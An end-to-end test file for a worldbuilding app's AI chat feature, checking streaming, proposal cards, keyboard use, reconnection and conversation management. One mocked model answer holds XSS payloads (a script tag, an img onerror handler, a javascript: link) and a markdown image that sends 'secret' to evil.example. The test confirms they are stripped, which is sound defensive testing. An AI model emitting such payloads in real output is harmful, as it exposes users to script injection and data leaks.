import { createDatabase } from '@worldloom/db'
import { calls, says, startModelEndpoint } from '@worldloom/server/testing'
import type { Page } from 'playwright-core'
import { afterAll, beforeEach, describe, expect, test } from 'vitest'
import { devices, Visitor } from '../src/visitor.ts'
import { openWorldloom, startTestWorldloom } from '../src/worldloom.ts'

const endpoint = await startModelEndpoint()
afterAll(() => endpoint.close())
const { worldloom, browser, arrive } = await openWorldloom({
  OPENAI_MODEL: 'test-model',
  OPENAI_BASE_URL: endpoint.url,
  CHAT_CONTEXT_TOKENS: '1500',
  CHAT_PRICES: 'test-model=100/1000',
  CHAT_COST_PER_MONTH: '20',
})
const database = createDatabase(worldloom.database.url)
afterAll(() => database.close())
/** Ids of a persona and a story in the demo world. */
const personaId = await idOf('persona', 'Bastian Oar')
const storyId = await idOf('story', 'The Night the Ninth Went Dark')

async function idOf(kind: 'persona' | 'story', name: string): Promise<string> {
  const query = database.db.selectFrom('entities').where('kind', '=', kind).where('displayName', '=', name).select('id')
  return (await query.executeTakeFirstOrThrow()).id
}

beforeEach(async () => {
  endpoint.answer(says('Hello.'))
  await database.db.deleteFrom('conversations').execute()
})

const composer = (page: Page) => page.getByRole('textbox', { name: 'Your message' })

async function ask(page: Page, text: string) {
  await composer(page).fill(text)
  // While an answer is still settling, nothing can be sent.
  await page.getByRole('button', { name: 'Send', disabled: false }).waitFor()
  await composer(page).press('Enter')
}

const answer = `**Bastian Oar** knows. He is named by [Bastian Oar](entity:PERSONA), and [nobody](entity:00000000-0000-7000-8000-000000000000) else.

| who | what |
| --- | --- |
| Bastian | ferries |

\`\`\`ts
const bells = 9
\`\`\`

<img src=x onerror="document.title='owned'"><script>document.title='owned'</script>
![secret](https://evil.example/?q=secret) [out](https://example.com/a) [bad](javascript:alert(1))`

describe.each(devices)('the chat, %s', (look) => {
  test('answers from the world, with links, tables and code, and nothing that could harm', async () => {
    const visitor = await arrive(look)
    const { page } = visitor
    await visitor.signIn('Mira', '/chat')
    await page.getByRole('heading', { name: 'What would you like to know?' }).waitFor()
    await visitor.inspect('chat-new')
    endpoint.answer(
      calls(['searchWorld', { query: 'Bastian' }], ['storyOutline', { storyId }]),
      says(answer.replace('PERSONA', personaId), 2),
    )
    await page.getByLabel('About').selectOption({ label: 'The Iron Coast' })
    await ask(page, 'Who knows about the bell?')
    await page.getByRole('cell', { name: 'ferries' }).waitFor()
    await page.getByText('test-model · 220 tokens · $0.04').waitFor()
    await page.getByText(/\$\d\.\d+ of \$20\.00 this month · \$0\.04 for this conversation/).waitFor()
    await page.getByText(/Searched for “Bastian”: \d+ found/).waitFor()
    const link = page.getByRole('link', { name: 'Bastian Oar' })
    expect(await link.getAttribute('href')).toMatch(new RegExp(`^/worlds/[0-9a-f-]+/personas/${personaId}$`))
    // An entry that was never looked up is not a link.
    expect(await page.getByRole('link', { name: 'nobody' }).count()).toBe(0)
    const out = page.getByRole('link', { name: 'out', exact: true })
    expect(await out.getAttribute('rel')).toBe('noopener noreferrer nofollow')
    expect(await page.getByRole('link', { name: 'bad' }).count()).toBe(0)
    expect(await page.locator('article img, article script').count()).toBe(0)
    expect(await page.title()).not.toContain('owned')
    await visitor.inspect('chat-answer')
    await page.getByRole('heading', { name: 'A title' }).waitFor()
    await link.click()
    await page.getByRole('heading', { name: 'Bastian Oar', level: 1 }).waitFor()
  })

  test('shows what would be written as a card, and writes it once it is confirmed', async () => {
    const visitor = await arrive(look)
    const { page } = visitor
    const name = `Marrow ${look}`
    await visitor.signIn('Mira', '/worlds')
    await page.getByRole('link', { name: 'The Iron Coast' }).click()
    await page.getByRole('button', { name: 'Ask about this world' }).click()
    endpoint.answer(
      calls(
        ['proposeCreate', { kind: 'persona', fields: { name, epithet: 'the Quiet', body: 'Born *late*.' } }],
        ['proposeUpdate', { id: personaId, fields: { pronouns: `he/${look}` } }],
      ),
      says('It is proposed.'),
    )
    const panel = page.getByRole('dialog', { name: 'Ask about The Iron Coast' })
    await panel.getByRole('textbox').waitFor()
    await ask(page, 'Add somebody quiet')
    const card = panel.getByRole('region', { name: 'Proposal: add a persona' })
    await card.getByText('the Quiet').waitFor()
    await panel.getByText('It is proposed.').waitFor()
    await visitor.inspect('chat-proposal')
    await card.getByRole('button', { name: 'Add it' }).click()
    await card.getByText('Added:').waitFor()
    await panel
      .getByRole('region', { name: 'Proposal: change a persona' })
      .getByRole('button', { name: 'Dismiss' })
      .click()
    await panel.getByText('nothing was written').waitFor()
    await visitor.inspect('chat-decided')
    await card.getByRole('link', { name }).click()
    await page.getByRole('heading', { name, level: 1 }).waitFor()
  })

  test('shows several changes that belong together as one card, and writes them as a whole', async () => {
    const visitor = await arrive(look)
    const { page } = visitor
    await visitor.signIn('Mira', '/worlds')
    await page.getByRole('link', { name: 'The Iron Coast' }).click()
    await page.getByRole('heading', { name: 'The Iron Coast' }).waitFor()
    const linkKind = await database.db
      .selectFrom('linkKinds')
      .innerJoin('entities', 'entities.worldId', 'linkKinds.worldId')
      .where('entities.id', '=', personaId)
      .where('isSymmetric', '=', true)
      .select('linkKinds.id')
      .executeTakeFirstOrThrow()
    await page.getByRole('button', { name: 'Ask about this world' }).click()
    endpoint.answer(
      calls([
        'proposeChanges',
        {
          title: `A ferryman and his boat, ${look}`,
          changes: [
            {
              ...{ action: 'create', kind: 'persona', as: '$ferryman' },
              fields: { name: `Ottmar ${look}`, epithet: 'the Ferryman', description: 'Knows every rock.' },
            },
            { action: 'create', kind: 'thing', fields: { name: `Heron ${look}`, ownerPersonaId: '$ferryman' } },
            { action: 'link', linkKindId: linkKind.id, fromId: '$ferryman', toId: personaId, note: 'Since childhood.' },
          ],
        },
      ]),
      says('It is proposed.'),
    )
    const panel = page.getByRole('dialog', { name: 'Ask about The Iron Coast' })
    await panel.getByRole('textbox').waitFor()
    await ask(page, 'Give the harbour a ferryman')
    const card = panel.getByRole('region', { name: `Proposal: A ferryman and his boat, ${look}` })
    await card.getByText('Knows every rock.').waitFor()
    await card.getByText('Since childhood.').waitFor()
    await panel.getByText('It is proposed.').waitFor()
    await visitor.inspect('chat-proposed-changes')
    await card.getByRole('button', { name: 'Confirm' }).click()
    await card.getByText('Confirmed', { exact: true }).waitFor()
    await visitor.inspect('chat-confirmed-changes')
    await card.getByRole('link', { name: `A ferryman and his boat, ${look}` }).click()
    await page.getByText('Proposed in a chat of Mira').waitFor()
    await page.getByRole('button', { name: 'Undo all of it' }).waitFor()
  })
})

test('everything is done with the keyboard: asking, stopping, editing, going from branch to branch, trying again', async () => {
  const visitor = await arrive()
  const { page } = visitor
  await visitor.signIn('Mira', '/chat')
  const long = Array.from({ length: 200 }, (_, index) => `word${index} `).join('')
  endpoint.answer(says(long, 30))
  await composer(page).waitFor()
  // It already has the focus.
  await page.keyboard.type('Tell me')
  await page.keyboard.press('Enter')
  await page.getByText('word3').waitFor()
  await page.keyboard.press('Tab')
  expect(await page.evaluate(() => document.activeElement?.getAttribute('aria-label'))).toBe('Stop the answer')
  await page.keyboard.press('Enter')
  await page.getByText('You stopped the answer here.').waitFor()
  await expect.poll(() => endpoint.cancelled).toBeGreaterThan(0)
  endpoint.answer(says('Shorter.'), says('Other.'))
  await page.getByRole('button', { name: 'Stop the answer' }).waitFor({ state: 'hidden' })
  await page.getByRole('button', { name: 'Regenerate' }).press('Enter')
  await page.getByText('Shorter.').waitFor()
  await page.getByRole('button', { name: 'Edit the question' }).focus()
  await page.keyboard.press('Enter')
  await page.keyboard.press('ControlOrMeta+A')
  await page.keyboard.type('Tell me something else')
  await page.keyboard.press('Tab')
  await page.keyboard.press('Tab')
  await page.keyboard.press('Enter')
  await page.getByText('Other.').waitFor()
  await page.getByText('2 of 2').waitFor()
  await page.getByRole('button', { name: 'The one before' }).focus()
  await page.keyboard.press('Enter')
  await page.getByText('Shorter.').waitFor()
  expect(await page.getByText('2 of 2').count()).toBe(1)
  await visitor.keep('chat-branches')
})

test('an answer goes on while the page is away, and is seen in a second tab', async () => {
  const visitor = await arrive()
  const { page } = visitor
  await visitor.signIn('Mira', '/chat')
  const long = Array.from({ length: 120 }, (_, index) => `word${index} `).join('')
  endpoint.answer(says(`${long}**the end**`, 30))
  await composer(page).waitFor()
  await ask(page, 'Tell me')
  await page.getByText('word3').waitFor()
  const second = await visitor.openTab(page.url())
  await second.getByText('word10').waitFor()
  await page.reload()
  await page.getByText('word20').waitFor()
  // Offline for a while.
  await page.route('**/trpc/chat.watch**', (route) => route.abort())
  await page.reload()
  await page.getByText('The connection is lost.').waitFor()
  await visitor.keep('chat-offline')
  await page.unroute('**/trpc/chat.watch**')
  for (const tab of [page, second]) {
    await tab.getByText('the end').waitFor()
    const text = await tab.getByRole('article', { name: 'Answer' }).locator('.prose').textContent()
    expect(text?.replace(/\s+/g, ' ').trim()).toBe(`${long}the end`)
  }
  expect(endpoint.requests.length).toBeGreaterThan(0)
  // A question in one appears in the other.
  endpoint.answer(says('And so on.'))
  await ask(second, 'And then?')
  await page.getByText('And so on.').waitFor()
})

test('what goes wrong leaves what arrived, a sentence and a way on; what was typed is kept', async () => {
  const visitor = await arrive()
  const { page } = visitor
  await visitor.signIn('Mira', '/chat')
  endpoint.answer(async (completion) => {
    await completion.text('As far as this.')
    completion.break()
  }, says('Now whole.'))
  await composer(page).waitFor()
  await ask(page, 'Go')
  await page.getByText('The connection to the model broke off.').waitFor()
  await page.getByText('As far as this.').waitFor()
  await visitor.inspect('chat-failed')
  await page.getByRole('button', { name: 'Try again' }).click()
  await page.getByText('Now whole.').waitFor()
  await composer(page).fill('not sent yet')
  await page.reload()
  await page.getByText('Now whole.').waitFor()
  expect(await composer(page).inputValue()).toBe('not sent yet')
  await composer(page).fill('x'.repeat(20_001))
  await page.getByText('1 characters too long').waitFor()
  expect(await page.getByRole('button', { name: 'Send' }).isDisabled()).toBe(true)
  await page.goto('/chat/00000000-0000-7000-8000-000000000000')
  await page.getByRole('heading', { name: 'No such conversation' }).waitFor()
  await visitor.keep('chat-missing')
})

test('what the model was not told any more is marked; an answer can be copied', async () => {
  const visitor = await arrive()
  const { page } = visitor
  await visitor.context.grantPermissions(['clipboard-read', 'clipboard-write'])
  await visitor.signIn('Mira', '/chat')
  await composer(page).waitFor()
  for (const [index, text] of ['first', 'second', 'third'].entries()) {
    endpoint.answer(says(`The ${text}. ${'There was a sea. '.repeat(150)}`))
    await ask(page, `Question ${index}`)
    await page.getByText(`The ${text}.`).waitFor()
    await page.getByRole('button', { name: 'Send' }).waitFor()
  }
  const mark = page.getByText('the model was not told it any more')
  await mark.scrollIntoViewIfNeeded()
  await visitor.inspect('chat-trimmed')
  endpoint.answer(says('Short.'))
  await ask(page, 'And?')
  await page.getByText('Short.').waitFor()
  // An answer can be copied once it is complete; until then the last button is the one of the answer before.
  await page.getByRole('button', { name: 'Send' }).waitFor()
  await page.getByRole('button', { name: 'Copy the answer' }).last().click()
  await page.getByText('The answer is in the clipboard.').waitFor()
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('Short.')
})

test('conversations are searched, renamed, exported, deleted and brought back', async () => {
  const visitor = await arrive()
  const { page } = visitor
  await visitor.signIn('Mira')
  await page.getByRole('link', { name: 'Chat', exact: true }).click()
  endpoint.answer(says('The kraken sleeps.'))
  await composer(page).waitFor()
  await ask(page, 'Monsters?')
  await page.getByText('The kraken sleeps.').waitFor()
  await page.getByRole('heading', { name: 'A title' }).waitFor()
  const menu = async (item: string) => {
    await page.getByRole('button', { name: 'Menu of A title' }).click()
    await page.getByRole('menuitem', { name: item }).click()
  }
  await page.getByRole('button', { name: 'Menu of A title' }).click()
  await page.getByRole('menu').waitFor()
  await visitor.inspect('chat-menu')
  await page.keyboard.press('Escape')
  const [download] = await Promise.all([page.waitForEvent('download'), menu('Export as Markdown')])
  expect(download.suggestedFilename()).toBe('A-title.md')
  await page.getByRole('searchbox').fill('nothing of the kind')
  await page.getByText('No conversation found.').waitFor()
  await page.getByRole('searchbox').fill('KRAKEN')
  await page.getByRole('link', { name: 'A title' }).waitFor()
  await menu('Delete')
  await page.getByText('“A title” was deleted.').waitFor()
  await page.getByRole('heading', { name: 'What would you like to know?' }).waitFor()
  await page.getByRole('button', { name: 'Undo' }).last().click()
  await page.getByRole('link', { name: 'A title' }).waitFor()
  await menu('Rename')
  await page.getByRole('textbox', { name: 'Title' }).fill('Deep things')
  await page.getByRole('button', { name: 'Rename' }).click()
  await page.getByRole('searchbox').fill('deep th')
  await page.getByRole('link', { name: 'Deep things' }).waitFor()
})

const without = await startTestWorldloom()

describe.each(devices)('where no model is configured, %s', (look) => {
  test('the page says what to set', async () => {
    const visitor = await Visitor.arrive(browser, without.url, look)
    const { page } = visitor
    await visitor.signIn('Mira', '/chat')
    await page.getByRole('heading', { name: 'No model is configured yet' }).waitFor()
    await page.getByText('OPENAI_BASE_URL').waitFor()
    await visitor.inspect('chat-setup')
    await visitor.leave()
  })
})
